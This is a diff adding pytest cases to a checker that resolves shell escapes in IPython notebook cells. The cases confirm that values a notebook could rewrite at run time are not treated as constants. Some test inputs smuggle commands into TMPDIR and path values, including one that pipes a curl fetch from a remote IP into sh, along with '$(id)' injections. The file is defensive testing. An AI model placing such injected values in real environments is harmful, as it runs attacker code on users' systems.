@@ -405,6 +405,12 @@ def test_assigned_magic_and_help() -> None:
             'cp -r r/m/* "/g/m" ; cp -r r/m/* "/c/m"',
         ),
         ("if c:\n  p = 'a'\nelif e:\n  p = 'b'\nelse:\n  p = 'a'\n!ls $p", "ls a ; ls b"),
+        # Session 23 (flax's gemma notebook): a temp dir the runner's root names
+        (
+            "import tempfile\nwith tempfile.TemporaryDirectory() as tmp:\n"
+            "    !git clone https://github.com/google/flax.git {tmp}/flax",
+            "git clone https://github.com/google/flax.git /tmp/tmpXXXXXXXX/flax",
+        ),
         # flax's imagenet example: importlib imports a package's module by name
         (
             "import importlib\nn = 'v1'\nc = importlib.import_module(f'configs.{n}')\n"
@@ -471,6 +477,43 @@ def test_escape_of_the_notebooks_constants_is_shell(cell: str, shell: str) -> No
         "if c:\n    a = 'x'\nelse:\n    a = 'y'\n!cat <<$a",
         "if c:\n    a = '`x'\nelse:\n    a = 'y'\n!echo $a",
         "if c:\n    a = '$(x'\nelse:\n    a = 'y'\n!echo $a",
+        # Session 23: a namespace writer before the escape, in its own
+        # top-level statement, or after it with the escape in a function
+        # called later; writers no attribute names
+        "a = 'x'\nfor _ in r:\n    !echo $a\n    globals()['a'] = input()",
+        "a = 'x'\ndef f():\n    !echo $a\nglobals()['a'] = input()\nf()",
+        "a = 'x'\nclass C:\n    def m(self):\n        !echo $a\nvars()['a'] = input()\nC().m()",
+        "a = 'x'\ndef g():\n    globals()['a'] = input()\ng()\n!echo $a",
+        "a = 'x'\nf = lambda: 0\nf.__globals__['a'] = input()\n!echo $a",
+        "a = 'x'\ngetattr(len.__self__, 'glob' + 'als')()['a'] = input()\n!echo $a",
+        "a = 'x'\ngetattr(len.__self__, 'globals')()['a'] = input()\n!echo $a",
+        "a = 'x'\nlabels = graphs.globals\n!echo $a",
+        # a temp dir whose root the notebook moves, or not tempfile's own
+        "import os, tempfile\nos.environ['TMPDIR'] = '/x;curl -s http://198.51.100.7/q | sh;'\n"
+        "with tempfile.TemporaryDirectory() as t:\n    !ls {t}",
+        "import tempfile\n%env TMPDIR=/x$(id)\nwith tempfile.TemporaryDirectory() as t:\n    !ls {t}",
+        "import tempfile\ntempfile.tempdir = '/x$(id)'\n"
+        "with tempfile.TemporaryDirectory() as t:\n    !ls {t}",
+        "import tempfile, os\ngetattr(os, 'environ').update(TMPDIR='/x$(id)')\n"
+        "with tempfile.TemporaryDirectory() as t:\n    !ls {t}",
+        "import tempfile\nwith tempfile.TemporaryDirectory(dir=d) as t:\n    !ls {t}",
+        "import tempfile\nwith tempfile.TemporaryDirectory(prefix=p) as t:\n    !ls {t}",
+        "import tempfile\nwith tempfile.TemporaryDirectory() as t:\n    t = input()\n    !ls {t}",
+        "import tempfile\nwith tempfile.TemporaryDirectory() as t:\n    pass\n!ls {t}",
+        "import helpers as tempfile\nwith tempfile.TemporaryDirectory() as t:\n    !ls {t}",
+        "import tempfile\ntempfile = helpers\nwith tempfile.TemporaryDirectory() as t:\n    !ls {t}",
+        # ... or whose path functions the notebook rewrites
+        "import os, tempfile\nos.path.abspath = lambda p: '/x;id'\n"
+        "with tempfile.TemporaryDirectory() as t:\n    !ls {t}",
+        "import pkgutil, tempfile\nm = pkgutil.resolve_name('tempfile')\n"
+        "m.TemporaryDirectory = Fake\nwith tempfile.TemporaryDirectory() as t:\n    !ls {t}",
+        "import tempfile\nm = tempfile\nwith tempfile.TemporaryDirectory() as t:\n    !ls {t}",
+        "import tempfile\ntempfile._name_sequence.characters = '$;'\n"
+        "with tempfile.TemporaryDirectory() as t:\n    !ls {t}",
+        "import os, tempfile\nfrom unittest import mock\nmock.patch.object(os.path, 'join', f).start()\n"
+        "with tempfile.TemporaryDirectory() as t:\n    !ls {t}",
+        "import os, tempfile\nos.path.__setattr__('join', f)\n"
+        "with tempfile.TemporaryDirectory() as t:\n    !ls {t}",
     ],
 )
 def test_name_that_may_hold_something_else_stays_a_run_time_value(cell: str) -> None:
@@ -488,3 +531,20 @@ def test_constant_in_a_cell_the_kernel_does_not_run() -> None:
     cells = ipy.notebook_cells(nb, json.dumps(nb))
     assert cells is not None and "subprocess" not in "\n".join(cells.python)
     assert [s.strip() for s in cells.shell if s.strip()] == ["ls"]
+
+
+@pytest.mark.parametrize(
+    "after",
+    [
+        "labels = graphs.globals",  # flax's ogbg_molpcba (a jraph field)
+        "globals()['a'] = input()",
+        "%run helpers.py",
+        "def g():\n    vars()['a'] = input()",
+    ],
+)
+def test_namespace_writer_after_the_escape_leaves_its_constants(after: str) -> None:
+    # Session 23: a writer runs when its own top-level statement does, after
+    # an escape in an earlier one (and in no function), which has already run.
+    cells = ipy.script_cells(f"a = 'x'\nif c:\n    !echo $a\n{after}\n")
+    assert not any("subprocess" in py for py in cells.python)
+    assert [s.strip() for s in cells.shell if s.strip()] == ["echo x"]
